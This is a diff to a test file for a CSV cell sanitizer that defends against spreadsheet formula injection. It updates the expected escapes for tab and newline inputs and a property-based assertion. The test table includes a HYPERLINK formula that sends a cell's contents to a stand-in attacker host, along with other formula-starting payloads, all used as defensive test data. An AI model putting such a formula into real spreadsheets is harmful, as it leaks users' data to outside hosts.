@@ -45,8 +45,8 @@ def test_terminal_text_never_holds_a_control_character_and_printable_text_is_unc
 
 CELLS = {  # cell -> what the CSV must hold
     '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "=1+1": "'=1+1", "@SUM(1,1)": "'@SUM(1,1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "\\x09=1+1",
-    "\r=1+1": "\\x0d=1+1", "a\r\nb": "a\\x0d\\x0ab", "-inf": "'-inf", "-": "'-",
+    "=1+1": "'=1+1", "@SUM(1,1)": "'@SUM(1,1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "'\t=1+1",
+    "\r=1+1": "\\x0d=1+1", "a\r\nb": "a\\x0d\nb", "\n=1+1": "'\n=1+1", "-inf": "'-inf", "-": "'-",
     "-1.25": "-1.25", "+3": "+3", "1e3": "1e3", "plain": "plain", "a=b": "a=b",
 }
 
@@ -80,7 +80,8 @@ def test_no_sanitized_cell_starts_a_formula_unless_it_is_a_finite_number(text):
     out = csv_cell(text)
     if out.startswith(("=", "+", "-", "@", "\t", "\r")):
         assert float(out) == float(out)  # parses, and is not NaN
-    assert out in (terminal(text), "'" + terminal(text))
+    kept = "\t".join(terminal(part, keep_newlines=True) for part in text.split("\t"))  # newlines, tabs kept
+    assert out in (kept, "'" + kept)
 
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
